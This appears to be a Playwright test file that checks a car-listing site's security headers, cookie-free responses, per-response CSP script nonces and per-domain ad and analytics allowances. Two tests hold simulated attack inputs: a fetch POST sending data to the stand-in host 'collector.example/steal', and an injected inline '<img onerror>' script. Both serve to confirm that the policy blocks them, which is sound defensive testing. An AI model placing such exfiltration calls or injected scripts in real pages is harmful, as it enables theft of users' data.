// Pages and static files carry the security headers, no answer sets a cookie, and pages cannot be
// framed by another site (the whole suite runs with this policy and fails on any console error, so a
// policy that broke a page would show there).
import { domainUrl, EXPECTS_CONSOLE_ERRORS, expect, hydrated, test } from './fixtures';

const SECURED = {
  'strict-transport-security': 'max-age=31536000',
  'x-content-type-options': 'nosniff',
  'referrer-policy': 'strict-origin-when-cross-origin',
  'x-frame-options': 'SAMEORIGIN',
};

test('pages, their data, gateway answers and static files carry the security headers and set no cookie', async ({ page, request }) => {
  await page.goto('/car-list');
  // the page asks for its scripts after its first paint (app/lib/scripts-after-paint.server.ts)
  await hydrated(page);
  const files = await page
    .locator('link[rel="modulepreload"], link[rel="stylesheet"]')
    .evaluateAll((els) => els.map((el) => new URL((el as HTMLLinkElement).href).pathname));
  for (const path of [
    '/',
    '/car-list?type=suv',
    '/car-rank.data',
    '/cars/no-such-car/99999999',
    '/nowhere',
    '/api?url=/car/indexPage',
    files[0]!,
    '/favicon.svg',
  ]) {
    const response = await request.get(path, { maxRedirects: 0 });
    const headers = response.headers();
    expect(headers, path).toMatchObject(SECURED);
    expect(headers['permissions-policy'], path).toContain('geolocation=()');
    expect(headers['set-cookie'], path).toBeUndefined();
    const csp = headers['content-security-policy'] ?? '';
    if (headers['content-type']?.startsWith('text/html')) {
      expect(csp, path).toContain("frame-ancestors 'self'");
      expect(csp, path).toContain("object-src 'none'");
      expect(csp, path).toContain("base-uri 'self'");
    } else {
      expect(csp, path).toMatch(/default-src 'none'.*frame-ancestors 'none'/);
    }
  }
  expect(await page.context().cookies()).toEqual([]);
});

test('every page answer has its own script nonce, also from the edge cache, and third-party hosts only where configured', async ({
  request,
}) => {
  const nonces = new Set<string>();
  for (let i = 0; i < 3; i += 1) {
    const response = await request.get('/car-rank');
    const csp = response.headers()['content-security-policy'] ?? '';
    const nonce = /'nonce-([^']+)'/.exec(csp)?.[1];
    expect(nonce).toBeTruthy();
    const html = await response.text();
    const inHtml = [...html.matchAll(/nonce="([^"]*)"/g)].map((match) => match[1]);
    expect(inHtml.length).toBeGreaterThan(3);
    expect(new Set(inHtml)).toEqual(new Set([nonce]));
    expect(html).not.toContain('csp-nonce-placeholder');
    nonces.add(nonce!);
  }
  expect(nonces.size).toBe(3);

  const plain = (await request.get('/about')).headers()['content-security-policy'];
  expect(plain).not.toContain('googlesyndication');
  expect(plain).not.toContain('googletagmanager');
  // without ads: connections, images and frames are held to this site too (no DSN on this server)
  expect(plain).toContain("connect-src 'self';");
  expect(plain).toContain("img-src 'self' data: blob:;");
  expect(plain).toContain("frame-src 'none'");
});

test(
  'on a domain without ads a page cannot send data elsewhere; gtag and ad domains get what they need',
  { annotation: { type: EXPECTS_CONSOLE_ERRORS, description: 'Content Security Policy' } },
  async ({ page, baseURL }) => {
    await page.goto('/about');
    const refused = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true });
          // what an injected script would do with what it read (were it sent, the fixture fails the test)
          void fetch('https://collector.example/steal', { method: 'POST', body: 'x' }).catch(() => undefined);
        }),
    );
    expect(refused).toBe('connect-src');

    const policyOf = async (host: string) =>
      (await page.goto(domainUrl(host, '/about', baseURL)))?.headers()['content-security-policy'] ?? '';
    const gtag = await policyOf('greenroute.localhost');
    expect(gtag).toContain(
      "connect-src 'self' https://*.google-analytics.com https://*.analytics.google.com https://*.googletagmanager.com;",
    );
    expect(gtag).toContain("img-src 'self' data: blob: https://*.google-analytics.com https://*.googletagmanager.com;");
    // AdSense reaches hosts no list keeps up with: its domains keep connections and frames open
    const ads = await policyOf('fastlane.localhost');
    expect(ads).toContain('https://pagead2.googlesyndication.com');
    expect(ads).not.toContain('connect-src');
    expect(ads).not.toContain('frame-src');
  },
);

test(
  'an injected inline script without the nonce does not run',
  { annotation: { type: EXPECTS_CONSOLE_ERRORS, description: 'Content Security Policy' } },
  async ({ page }) => {
    await page.goto('/about');
    const outcome = await page.evaluate(async () => {
      const violation = new Promise<string>((resolve) =>
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true }),
      );
      // parser-inserted markup, as an injection would be: not trusted through 'strict-dynamic'
      document.body.insertAdjacentHTML('beforeend', '<img src="x" onerror="window.__injected = true">');
      // the image fails: its handler has run, or been refused, by the time its error event gets here
      await new Promise((resolve) => document.body.lastElementChild!.addEventListener('error', resolve, { once: true }));
      const ran = (window as unknown as { __injected?: boolean }).__injected === true;
      return { ran, refusedBy: ran ? null : await violation };
    });
    expect(outcome).toEqual({ ran: false, refusedBy: expect.stringMatching(/^script-src/) });
  },
);
